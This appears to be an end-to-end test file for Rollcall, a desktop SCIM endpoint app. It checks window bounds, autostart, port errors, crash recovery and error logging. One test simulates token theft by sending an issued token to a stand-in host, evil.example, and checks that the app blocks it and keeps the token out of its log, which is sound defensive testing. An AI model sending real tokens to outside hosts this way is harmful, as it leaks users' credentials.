import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createClient } from '../client.ts'
import { expect, test } from './desktop.ts'

test('the window opens where it was, on a screen that exists', async ({ launch }) => {
  const boundsOf = async (machine?: Parameters<typeof launch>[0]) => {
    const desktop = await launch(machine)
    await desktop.page()
    const [window] = await desktop.controls.windows()
    return { desktop, bounds: window?.bounds, isMaximized: window?.isMaximized }
  }
  const left = { x: 0, y: 0, width: 1600, height: 900 }
  const right = { x: 1600, y: 0, width: 1920, height: 1040 }

  const first = await boundsOf({ machine: { screens: [left, right] } })
  expect(first.bounds).toEqual({ x: 160, y: 50, width: 1280, height: 800 })
  await first.desktop.controls.moveWindow({ x: 1700, y: 40, width: 1400, height: 900 })
  await first.desktop.controls.chooseInTray('Quit')
  await first.desktop.exited

  const second = await boundsOf({ machine: { screens: [left, right] } })
  expect(second).toMatchObject({ bounds: { x: 1700, y: 40, width: 1400, height: 900 }, isMaximized: false })
  await second.desktop.controls.maximizeWindow()
  await second.desktop.controls.chooseInTray('Quit')
  await second.desktop.exited

  const third = await boundsOf({ machine: { screens: [left] } })
  expect(third).toMatchObject({ bounds: { x: 100, y: 0, width: 1400, height: 900 }, isMaximized: true })
})

test('the window has the colour of the theme before the page is there', async ({ launch }) => {
  const desktop = await launch({ machine: { isDark: true } })
  const page = await desktop.page()
  await expect(page.getByText('Listening')).toBeVisible()
  const [window] = await desktop.controls.windows()
  const drawn = await page.evaluate(() => getComputedStyle(document.body).backgroundColor)
  const hex = (text: string) =>
    `#${(text.match(/\d+/g) ?? []).map((part) => Number(part).toString(16).padStart(2, '0')).join('')}`
  expect(window?.backgroundColor).toBe(hex(drawn))
})

test('started at login it serves without a window, until one is wanted', async ({ launch }) => {
  const desktop = await launch({ args: ['--vault', 'file', '--port', '0', '--hidden'] })
  const scim = await desktop.scim()
  expect((await fetch(`${scim}/v2/Users`)).status).toBe(401)
  expect(await desktop.controls.windows()).toEqual([])
  const again = await launch({ args: ['--vault', 'file', '--port', '0', '--hidden'] })
  await again.exited
  expect(await desktop.controls.windows()).toEqual([])
  await desktop.controls.clickTray()
  await expect((await desktop.page()).getByText('Listening')).toBeVisible()
})

test('start at login is switched in the tray, and starts the same app on the same data without a window', async ({
  launch,
}) => {
  const appData = mkdtempSync(join(tmpdir(), 'rollcall-autostart-'))
  const file = join(appData, 'autostart/rollcall.desktop')
  const desktop = await launch({ machine: { appData }, args: ['--vault', 'file', '--port', '0', '--hidden'] })
  await desktop.scim()
  const checkbox = async () =>
    (await desktop.controls.tray())?.items.find(({ label }) => label === 'Start at login')?.isChecked
  expect(await checkbox()).toBe(false)
  await desktop.controls.chooseInTray('Start at login')
  expect(await checkbox()).toBe(true)
  const entry = readFileSync(file, 'utf8')
  expect(entry).toMatch(/^Exec="[^"]+node" "[^"]+" "--data-dir" "[^"]+" "--vault" "file" "--port" "0" "--hidden"$/m)
  expect(entry).toContain(`"--data-dir" "${desktop.dataDir}"`)
  await desktop.controls.chooseInTray('Start at login')
  expect(await checkbox()).toBe(false)
  expect(() => readFileSync(file)).toThrow('ENOENT')
  rmSync(appData, { recursive: true, force: true })
})

test('what keeps the endpoint from listening again is said in the tray and in a box', async ({ launch }) => {
  const desktop = await launch()
  const scim = await desktop.scim()
  const port = Number(new URL(scim).port)
  const { controls } = desktop
  await controls.chooseInTray('Stop listening')
  await expect
    .poll(() =>
      fetch(scim).then(
        () => true,
        () => false,
      ),
    )
    .toBe(false)
  const other = createServer()
  await new Promise<void>((resolve) => {
    other.listen(port, '127.0.0.1', resolve)
  })
  await controls.chooseInTray('Listen again')
  await expect
    .poll(async () => (await controls.boxes()).map(({ message }) => message))
    .toEqual([
      `The SCIM endpoint cannot listen: Port ${port} on 127.0.0.1 is in use by another program. Choose another port, or stop that program.`,
    ])
  expect((await controls.tray())?.items[0]?.label).toContain('Not listening')
  await new Promise((resolve) => {
    other.close(resolve)
  })
  await controls.pressButton('Close')
  await controls.chooseInTray('Listen again')
  await expect
    .poll(() =>
      fetch(scim).then(
        ({ status }) => status,
        () => 0,
      ),
    )
    .toBe(401)
})

test('what goes wrong is written beside the data, without a token in it', async ({ launch }) => {
  const desktop = await launch()
  const page = await desktop.page()
  await expect(page.getByText('Listening')).toBeVisible()
  const made = await desktop.rollcall('integrations', 'create', '--name', 'Okta', '--idp', 'okta')
  const { token } = made as { token: string }
  const okta = createClient(`${await desktop.scim()}/okta/v2`, token)
  await expect(async () => expect((await okta.get('/Users')).status).toBe(200)).toPass()
  await page.evaluate((text) => location.assign(`https://evil.example/?${text}`), token)
  await expect.poll(() => desktop.stderr()).toContain('evil.example')
  await desktop.controls.chooseInMenu('Open the data directory')
  expect(await desktop.controls.openedOutside()).toEqual([desktop.dataDir])
  const text = readFileSync(join(desktop.dataDir, 'troubles.log'), 'utf8')
  expect(JSON.parse(text)).toMatchObject({ message: expect.stringContaining('A link to https://evil.example was not') })
  expect(text).not.toContain(token.slice(11))
})

test('a page that dies is loaded again; one that dies at once is left alone', async ({ launch }) => {
  const desktop = await launch()
  const page = await desktop.page()
  await expect(page.getByText('Listening')).toBeVisible()
  await desktop.controls.crashPage()
  expect(await desktop.controls.windows()).toEqual([])
  expect(desktop.stderr()).toContain("The page's process ended: crashed (139).")
  expect((await fetch(`${await desktop.scim()}/v2/Users`)).status).toBe(401)
  await desktop.controls.activate()
  await expect((await desktop.page()).getByText('Listening')).toBeVisible()
})

test('a bug ends the app with an id, and the next start works', async ({ launch }) => {
  const desktop = await launch()
  await desktop.page()
  await desktop.controls.fail('a bug that holds nothing')
  expect(await desktop.exited).toEqual({ code: 1, signal: null })
  const [, id = ''] = /^fault (\w{8}): Error: a bug that holds nothing$/m.exec(desktop.stderr()) ?? []
  expect(desktop.stderr()).toContain(`[box] Rollcall has stopped: Something unexpected went wrong (${id}).`)
  const again = await launch()
  await expect((await again.page()).getByText('Listening')).toBeVisible()
})
